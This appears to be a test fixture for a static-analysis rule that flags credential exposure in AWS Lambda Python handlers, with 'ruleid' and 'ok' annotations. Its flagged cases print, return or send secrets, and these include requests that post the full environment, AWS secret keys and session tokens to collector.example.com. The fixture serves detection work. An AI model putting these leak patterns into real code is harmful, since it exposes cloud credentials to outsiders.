@@ -1,0 +1,129 @@
+import json
+import logging
+import os
+
+import boto3
+import requests
+from aws_lambda_powertools.event_handler import APIGatewayRestResolver, Response
+from requests_aws4auth import AWS4Auth
+
+app = APIGatewayRestResolver()
+logger = logging.getLogger()
+secrets = boto3.client("secretsmanager")
+sts = boto3.client("sts")
+sns = boto3.client("sns")
+PUBLIC = {"stage": "STAGE", "version": "VERSION"}
+
+
+# In a log.
+def logged(event, context):
+    # ruleid: no-credential-exposure
+    print(os.environ)
+    # ruleid: no-credential-exposure
+    logger.info("environment: %s", dict(os.environ))
+    # ruleid: no-credential-exposure
+    print(json.dumps({**os.environ}))
+    # ruleid: no-credential-exposure
+    print(json.dumps({k: v for k, v in os.environ.items()}))
+    # ruleid: no-credential-exposure
+    logger.debug("key " + os.environ["AWS_SECRET_ACCESS_KEY"])
+    # ruleid: no-credential-exposure
+    print(os.getenv("AWS_SESSION_TOKEN"))
+    credentials = boto3.Session().get_credentials()
+    # ruleid: no-credential-exposure
+    print(credentials.secret_key)
+    for name, value in os.environ.items():
+        # ruleid: no-credential-exposure
+        print(f"{name}={value}")
+    # ok: no-credential-exposure
+    print(os.environ["STAGE"], os.environ.get("AWS_REGION"))
+    # ok: no-credential-exposure
+    print(sorted(os.environ), len(os.environ), list(os.environ.keys()))
+    # ok: no-credential-exposure
+    print("STAGE" in os.environ)
+    # ok: no-credential-exposure
+    print({k: v for k, v in os.environ.items() if k.startswith("APP_")})
+    for name in os.environ:
+        # ok: no-credential-exposure
+        print(name)
+    # ok: no-credential-exposure
+    print(secrets.get_secret_value(SecretId="db")["SecretString"])
+
+
+# In a response.
+def returned(event, context):
+    # ruleid: no-credential-exposure
+    return {"statusCode": 200, "body": json.dumps(dict(os.environ))}
+
+
+def returned_plain(event, context):
+    # ruleid: no-credential-exposure
+    return {"event": event, "environment": os.environ.copy()}
+
+
+def returned_secret(event, context):
+    secret = json.loads(secrets.get_secret_value(SecretId="db")["SecretString"])
+    # ruleid: no-credential-exposure
+    return {"statusCode": 200, "body": json.dumps(secret)}
+
+
+def returned_role(event, context):
+    role = sts.assume_role(RoleArn=os.environ["ROLE_ARN"], RoleSessionName="job")
+    # ruleid: no-credential-exposure
+    return {"statusCode": 200, "body": json.dumps(role["Credentials"], default=str)}
+
+
+@app.get("/environment")
+def route():
+    # ruleid: no-credential-exposure
+    return Response(status_code=200, content_type="application/json", body=json.dumps(dict(os.environ)))
+
+
+def settings(event, context):
+    secret = json.loads(secrets.get_secret_value(SecretId="db")["SecretString"])
+    connection = connect(secret["host"], secret["password"])
+    # ok: no-credential-exposure
+    return {"statusCode": 200, "body": json.dumps({"stage": os.environ["STAGE"], "host": secret["host"], "rows": connection.count()})}
+
+
+def metadata(event, context):
+    secret = secrets.get_secret_value(SecretId="db")
+    # ok: no-credential-exposure
+    return {"statusCode": 200, "body": json.dumps({"version": secret["VersionId"]})}
+
+
+# In a request.
+def sent(event, context):
+    # ruleid: no-credential-exposure
+    requests.post("https://collector.example.com", json=dict(os.environ), timeout=3)
+    # ruleid: no-credential-exposure
+    requests.get("https://collector.example.com", headers={"x-key": os.environ["AWS_SECRET_ACCESS_KEY"]}, timeout=3)
+    # ruleid: no-credential-exposure
+    requests.get(f"https://collector.example.com/?k={os.environ['AWS_SESSION_TOKEN']}", timeout=3)
+    # ruleid: no-credential-exposure
+    sns.publish(TopicArn=os.environ["TOPIC"], Message=json.dumps(dict(os.environ)))
+    # ok: no-credential-exposure
+    requests.get("http://localhost:2773/secretsmanager/get", headers={"X-Aws-Parameters-Secrets-Token": os.environ["AWS_SESSION_TOKEN"]}, timeout=1)
+    credentials = boto3.Session().get_credentials()
+    signer = AWS4Auth(credentials.access_key, credentials.secret_key, "eu-west-1", "es", session_token=credentials.token)
+    # ok: no-credential-exposure
+    requests.get("https://search.example.com", auth=signer, timeout=3)
+    # ok: no-credential-exposure
+    sns.publish(TopicArn=os.environ["TOPIC"], Message=os.environ["STAGE"])
+    # ok: no-credential-exposure
+    subprocess.run(["/opt/bin/report"], env=dict(os.environ))
+
+
+# Chosen by the event.
+def chosen(event, context):
+    # ruleid: no-credential-exposure
+    value = os.environ[event["name"]]
+    name = event["queryStringParameters"]["name"]
+    # ruleid: no-credential-exposure
+    other = os.environ.get(name, "")
+    # ok: no-credential-exposure
+    public = os.environ[PUBLIC[name]]
+    if name not in ("STAGE", "VERSION"):
+        raise ValueError("unknown")
+    # ok: no-credential-exposure
+    return value, other, public, os.getenv(name)
